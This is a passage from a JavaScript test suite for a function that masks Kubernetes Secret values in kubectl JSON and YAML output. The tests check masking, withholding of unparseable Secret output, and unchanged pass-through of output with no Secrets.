    const result = maskSecretValues(text, 'json');
    assert.equal(result.maskedSecrets, 1);
    assert.deepEqual(JSON.parse(result.text).items[0].data, { k: '<masked: 3 bytes>' });
  });

  it('masks yaml cut short before the kind, since yaml sorts data before kind', () => {
    const result = maskSecretValues(`apiVersion: v1\ndata:\n  password: ${b64('s3cr3t-value')}\n`, 'yaml');
    assert.equal(result.maskedSecrets, 1);
    assert.ok(!result.text.includes(b64('s3cr3t-value')));
  });

  it('parses kubectl kyaml (flow style with trailing commas)', () => {
    const text = `---\n{\n  kind: "Secret",\n  apiVersion: "v1",\n  metadata: {\n    name: "s",\n  },\n  data: {\n    a: "${b64('value')}",\n  },\n}\n`;
    const result = maskSecretValues(text, 'yaml');
    assert.equal(result.maskedSecrets, 1);
    assert.ok(!result.text.includes(b64('value')));
  });

  it('withholds unparseable output that names a Secret kind', () => {
    const text = `{\n    "kind": "Secret",\n    "apiVersion": "v1",\n    "data": {\n        "password": "${b64('s3cr3t-value')}`;
    const result = maskSecretValues(text, 'json');
    assert.equal(result.withheld, true);
    assert.equal(result.maskedSecrets, 0);
    assert.ok(!result.text.includes(b64('s3cr3t-value')));
    assert.match(result.text, /withheld.*could not be verified as masked/);
    const yamlResult = maskSecretValues(`kind: Secret\ndata: {password: "${b64('x')}`, 'yaml');
    assert.equal(yamlResult.withheld, true);
    const escaped = `{"metadata": {"annotations": {"${LAST_APPLIED}": "{\\"data\\":{\\"password\\":\\"${b64('pw')}\\"},\\"kind\\":\\"Secret\\"`;
    assert.equal(maskSecretValues(escaped, 'json').withheld, true, 'the kind inside an escaped annotation counts');
  });

  it('returns unparseable output without a Secret kind unchanged', () => {
    const text = '{"kind": "ConfigMap", "data": {"a": "b"';
    assert.deepEqual(maskSecretValues(text, 'json'), { text, maskedSecrets: 0, withheld: false });
    const yamlText = 'error: the server could not find the requested resource: "x\n';
    assert.deepEqual(maskSecretValues(yamlText, 'yaml'), { text: yamlText, maskedSecrets: 0, withheld: false });
  });

  it('returns output without Secrets byte for byte', () => {
    const text = '{\n    "apiVersion": "v1",\n    "kind": "ConfigMap",\n    "data": {"a": "b"}\n}\n';
    assert.deepEqual(maskSecretValues(text, 'json'), { text, maskedSecrets: 0, withheld: false });
    assert.deepEqual(maskSecretValues('', 'yaml'), { text: '', maskedSecrets: 0, withheld: false });
  });
});
